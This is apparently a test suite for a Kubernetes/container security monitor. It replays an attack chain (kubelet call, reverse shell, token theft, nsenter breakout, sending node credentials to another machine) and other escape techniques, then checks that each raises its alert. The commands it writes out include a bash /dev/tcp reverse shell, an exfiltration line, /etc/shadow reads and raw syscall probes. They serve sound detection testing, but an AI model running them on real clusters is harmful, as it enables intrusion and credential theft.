#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The attack the monitor is for, step by step in real containers: a call of the kubelet, a command run
in a pod, the pod's token, a breakout, the node's credentials. Each step raises its own alert, which
names the container it began in. Ordinary acts raise none.
"""

import os
import pathlib
import shutil
import socket
import subprocess
import unittest

from harness import wait_until
from watched import ELSEWHERE, SECRET, Watched

KUBELET = "Kubelet API called from a container"
RUN = "Command run in a container after an unexpected kubelet call"
SHELL = "Reverse shell"
TOKEN = "Service account token read by a visitor"
API = "Kubernetes API called by a visitor"
FOREIGN = "Container opens a file of another mount namespace"
FOREIGN_EXEC = "Container executes a file of another mount namespace"
HOOK = "Container writes where the node's kernel takes a program from"
HOOK_TRIED = "Container tries to write where the node's kernel takes a program from"
DISK = "Container opens a raw disk or the node's memory"
SOCKET = "Container connects to the container runtime"
RUNTIME = "Container opens the runtime's binary for writing"
NAMESPACES = "Container enters other namespaces"
NAMESPACES_TRIED = "Container tries to enter other namespaces"
MOUNTED_CREDENTIALS = "Container opens the node's credentials"
ESCAPED = "Escaped process opens the node's credentials"
CARRIED_OFF = "Node's credentials carried off"
ON_NODE = "Node's credentials read by an unexpected program"

NAMELESS = "Program without a name executed in a container"
SCRATCH = "Program executed from a scratch directory of a container"
WRITTEN = "Program written into the container executed"

CODE_TRIED = "Container tries to load code into the node's kernel"
BPF = "Container loads a BPF program"
TAKEN_OVER = "Container takes over a process where it sees the node's"
ROOT = "Container changes its root directory"
FAULTS = "Container handles its own page faults"
URING = "Container makes an io_uring"
PERF = "Container opens a performance counter"
KEYS = "Container uses the kernel's keyrings"

# Calls that no program at hand makes: userfaultfd, bpf(BPF_PROG_LOAD) of "return 0" as a socket filter,
# finit_module of no file, ptrace(PTRACE_SEIZE), the memory's file, io_uring_setup, perf_event_open of a software event, add_key.
KERNEL_CALLS = """
import ctypes, struct, sys
call = ctypes.CDLL(None, use_errno=True).syscall
def pointer(data):
    kept.append(ctypes.create_string_buffer(data, len(data)))
    return ctypes.addressof(kept[-1])
kept = []
assert call(323, 1) >= 0
code = pointer(struct.pack("<QQ", 0xb7, 0x95))
attributes = struct.pack("<IIQQ", 1, 2, code, pointer(b"GPL\\0")).ljust(128, b"\\0")
assert call(321, 5, ctypes.c_void_p(pointer(attributes)), 128) >= 0, ctypes.get_errno()
assert call(313, -1, ctypes.c_void_p(pointer(b"\\0")), 0) < 0
assert call(101, 0x4206, int(sys.argv[1]), 0, 0) == 0, ctypes.get_errno()
open(f"/proc/{sys.argv[1]}/mem", "r+b").close()
assert call(425, 4, ctypes.c_void_p(pointer(bytes(120)))) >= 0, ctypes.get_errno()
event = pointer(struct.pack("<IIQ", 1, 128, 9).ljust(128, b"\\0"))
assert call(298, ctypes.c_void_p(event), 0, -1, -1, 0) >= 0, ctypes.get_errno()
name = pointer(b"user\\0")
assert call(248, ctypes.c_void_p(name), ctypes.c_void_p(name), ctypes.c_void_p(name), 4, -2) > 0, ctypes.get_errno()
"""

TOKEN_DIRECTORY = "/var/run/secrets/kubernetes.io/serviceaccount"


class Scenario(Watched):
    def pod(self):
        """A container with a service account's token where a pod has it."""
        secrets = self.directory / "token-volume"
        version = secrets / "..2026_11_22"
        version.mkdir(parents=True)
        self.addCleanup(shutil.rmtree, secrets)
        (version / "token").write_text("not-a-token\n")
        (secrets / "..data").symlink_to(version.name)
        (secrets / "token").symlink_to("..data/token")
        return self.container("/bin/sleep", "3600", mounts={TOKEN_DIRECTORY: secrets})

    def is_running(self, container):
        return container.exec("/bin/true").returncode == 0

    @staticmethod
    def cgroup2_mount():
        for line in pathlib.Path("/proc/self/mounts").read_text().splitlines():
            _, where, kind, *_ = line.split()
            if kind == "cgroup2":
                return where
        raise AssertionError("no cgroup2 is mounted")

    # The story

    def test_the_whole_attack_in_order(self):
        kubelet = self.listener(10250)
        pod = self.pod()
        wait_until(lambda: self.is_running(pod), "the pod")

        # 1. From a pod of his own the attacker calls the kubelet, which runs a command in another pod.
        foothold = self.container("/usr/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/10250")
        kubelet.accept()[0].close()
        steps = [self.expect(KUBELET, foothold, foothold.id)]

        # 2. The command is a reverse shell; 3. in it the token is read and used.
        attacker = self.listener()
        session = subprocess.Popen(
            [*pod.runtime, "exec", pod.id, "/usr/bin/bash", "-c",
             f"bash -i >& /dev/tcp/127.0.0.1/{attacker.port} 0>&1"],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.addCleanup(session.wait)
        heard, port = attacker.converse(
            f"cat {TOKEN_DIRECTORY}/token; exec 3<>/dev/tcp/127.0.0.1/{self.api_server.port}")
        self.api_server.accept()[0].close()
        self.assertIn("not-a-token", heard)
        run = self.expect(RUN, pod, pod.id)
        self.assertEqual({r["rule"] for r in run["related"]}, {"Kubelet API called unexpectedly"})
        self.assertGreaterEqual(run["time"], steps[0]["time"])
        steps.append(run)
        shell = f"127.0.0.1:{port}->127.0.0.1:{attacker.port}"
        steps.append(self.expect(SHELL, pod, pod.id, evt_type="execve", proc_stdin_name=shell))
        steps.append(self.expect(TOKEN, pod, pod.id, proc_stdin_name=shell))
        self.assertTrue(steps[-1]["output_fields"]["fd.name"].endswith("/..2026_11_22/token"))
        steps.append(self.expect(API, pod, pod.id))

        # 4. The privileged workload made with it enters the node, and 5. reads what is there: first
        # still in its container's cgroup, then in none.
        secret = self.database()
        elsewhere = self.another_machine()
        breakout = self.run_privileged(
            f"exec nsenter -t {self.service.pid} -m -C bash -c '"
            f"cat {secret}; echo $$ >{self.cgroup2_mount()}/cgroup.procs; cat {secret}; "
            f"exec 3<>/dev/tcp/{ELSEWHERE}/{elsewhere.port}; cat {secret} >&3; echo all-done'")
        with elsewhere.accept()[0] as thief:
            self.assertEqual(thief.recv(4096), SECRET.encode())
        steps.append(self.expect(NAMESPACES, breakout, breakout.id))
        steps.append(self.expect(ESCAPED, breakout, breakout.id, fd_name=str(secret)))
        steps.append(self.expect(ESCAPED, breakout, "host", fd_name=str(secret)))
        steps.append(self.expect(CARRIED_OFF, breakout, "host"))
        self.assertTrue(steps[-1]["output_fields"]["fd.name"].endswith(f"->{ELSEWHERE}:{elsewhere.port}"))
        self.assertEqual({r["rule"] for r in steps[-1]["related"]}, {"Node's credentials taken"})
        times = [step["output_fields"]["evt.time"] for step in steps]
        self.assertEqual(times, sorted(times))

    # Other ways out

    def test_files_of_a_process_of_the_node(self):
        root = f"/proc/{self.service.pid}/root"
        container = self.run_privileged(f"read line <{root}/etc/hostname; {root}/bin/true || true; cat {root}/etc/shadow >/dev/null")
        self.expect(FOREIGN, container, container.id, fd_name="/etc/hostname")
        self.expect(FOREIGN_EXEC, container, container.id)
        self.expect(MOUNTED_CREDENTIALS, container, container.id, fd_name="/etc/shadow")

    def test_namespaces_that_are_refused(self):
        container = self.container("/bin/sh", "-c", "nsenter -t $$ -m true")
        container.finish()
        self.expect(NAMESPACES_TRIED, container, container.id)

    def test_files_the_kernel_takes_programs_from(self):
        container = self.run_privileged("exec 3<>/proc/sys/kernel/core_pattern")
        self.expect(HOOK, container, container.id, fd_name="/proc/sys/kernel/core_pattern")
        refused = self.container("/usr/bin/bash", "-c", "exec 3<>/proc/sys/kernel/core_pattern")
        refused.finish()
        self.expect(HOOK_TRIED, refused, refused.id)

    def test_a_disk_under_another_name(self):
        image = self.directory / "disk.img"
        image.write_bytes(bytes(1 << 20))
        device = subprocess.run(["losetup", "--find", "--show", image], check=True, capture_output=True,
                                text=True).stdout.strip()
        self.addCleanup(subprocess.run, ["losetup", "-d", device])
        number = os.stat(device).st_rdev
        container = self.run_privileged(
            f"busybox mknod /tmp/notes.txt b {os.major(number)} {os.minor(number)} && busybox head -c 1 /tmp/notes.txt >/dev/null")
        self.expect(DISK, container, container.id, fd_name="/tmp/notes.txt")

    def test_the_runtime(self):
        served = self.directory / "containerd.sock"
        with socket.socket(socket.AF_UNIX) as runtime:
            runtime.bind(str(served))
            runtime.listen()
            connect = f"import socket; socket.socket(socket.AF_UNIX).connect(\"{served}\")"
            container = self.run_privileged(f"nsenter -t {self.service.pid} -m /usr/bin/python3 -c '{connect}'")
        self.expect(SOCKET, container, container.id, fd_name=str(served))
        binaries = self.directory / "node"
        binaries.mkdir()
        (binaries / "runc").write_text("#!/bin/sh\n")
        container = self.container("/usr/bin/bash", "-c", "exec 3>>/node/runc", mounts={"/node": binaries})
        container.finish()
        self.expect(RUNTIME, container, container.id, fd_name="/node/runc")

    def test_credentials_on_a_mount_of_the_nodes_disk(self):
        node = self.directory / "disk"
        (node / "etc").mkdir(parents=True)
        (node / "etc" / "shadow").write_text("root:*:::::::\n")
        container = self.container("/bin/cat", "/host/etc/shadow", mounts={"/host": node})
        container.finish()
        self.expect(MOUNTED_CREDENTIALS, container, container.id, fd_name="/host/etc/shadow")

    def test_the_kernel_and_other_processes(self):
        script = self.directory / "calls.py"
        script.write_text(KERNEL_CALLS)
        container = self.run_privileged(
            f"nsenter -t {self.service.pid} -m /usr/bin/python3 {script} {self.service.pid}")
        self.expect(FAULTS, container, container.id)
        self.expect(BPF, container, container.id)
        self.expect(CODE_TRIED, container, container.id, evt_type="finit_module")
        self.expect(TAKEN_OVER, container, container.id, target_pid=self.service.pid)
        self.expect(TAKEN_OVER, container, container.id, fd_name=f"/proc/{self.service.pid}/mem")
        self.expect(URING, container, container.id)
        self.expect(PERF, container, container.id)
        self.expect(KEYS, container, container.id, evt_type="add_key")

    def test_another_root_directory(self):
        node = self.directory / "other-root"
        (node / "bin").mkdir(parents=True)
        shutil.copy("/bin/busybox", node / "bin" / "true")
        container = self.run_privileged("busybox chroot /host /bin/true", mounts={"/host": node})
        self.expect(ROOT, container, container.id, evt_type="chroot")

    def test_programs_the_image_does_not_have(self):
        container = self.container("/bin/sh", "-c", "cp /bin/busybox /tmp/true && /tmp/true; "
                                   "cp /bin/busybox /tmp/sleep && exec 3</tmp/sleep && rm /tmp/sleep && "
                                   "/proc/self/fd/3 sleep 0")
        container.finish()
        self.expect(SCRATCH, container, container.id, proc_exepath="/tmp/true")
        self.expect(NAMELESS, container, container.id)

    def test_a_program_in_the_writable_layer(self):
        container = self.make_container("/bin/sh", "-c", "cp /bin/busybox /bin/id2 && /bin/id2 true; /bin/true")
        container.on_overlay()
        container.start()
        container.finish()
        self.expect(WRITTEN, container, container.id, proc_exepath="/bin/id2")
        self.assertEqual(self.watch.matching(
            lambda a: a["rule"] == WRITTEN and a["output_fields"]["proc.exepath"] == "/bin/busybox"), [])

    # The node and ordinary acts

    def test_credentials_on_the_node(self):
        secret = self.database()
        reader = subprocess.Popen(["cat", secret], stdout=subprocess.DEVNULL)
        self.assertEqual(reader.wait(), 0)
        found = self.watch.wait_for(
            lambda a: a["rule"] == ON_NODE and a["pid"] == reader.pid, "cat of a database's file")[0]
        self.assertEqual((found["container_id"], found["origin"]), ("host", "host"))

    def test_ordinary_acts_give_no_alert(self):
        begun = len(self.watch.alerts)
        pod = self.pod()
        wait_until(lambda: self.is_running(pod), "the pod")
        pod.exec("/usr/bin/bash", "-c", f"read t <{TOKEN_DIRECTORY}/token")
        pod.exec("/bin/sh", "-c", "cat /proc/self/status /proc/1/cmdline /dev/null >/dev/null; ls -l /proc/1 /sys/kernel")
        served = self.listener()
        work = self.container("/bin/sh", "-c", "cat /proc/sys/kernel/core_pattern; echo x >/tmp/release_notes; "
                              f"nc -w 1 127.0.0.1 {served.port} </dev/null; ls /mnt; id; echo y >/dev/stdout")
        served.accept()[0].close()
        work.finish()
        for command in (["passwd", "-S", "root"], ["tar", "-cf", "/dev/null", "/etc/shadow", "/etc/passwd"],
                        ["su", "nobody", "-s", "/bin/true"], ["nsenter", "-t", str(self.service.pid), "-m", "true"],
                        ["ls", "-l", "/var/lib"], ["getent", "passwd", "root"]):
            subprocess.run(command, check=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL)
        marker = self.run_privileged("exec 3<>/proc/sys/kernel/core_pattern")
        self.expect(HOOK, marker, marker.id)
        ours = {pod.id, work.id}
        wrong = [a["output"] for a in self.watch.alerts[begun:]
                 if a["container_id"] in ours or a["origin"] in ours
                 or (a["origin"] == "host" and os.getpid() in [b["pid"] for b in a["ancestors"]])]
        self.assertEqual(wrong, [])


if __name__ == "__main__":
    unittest.main(verbosity=2)
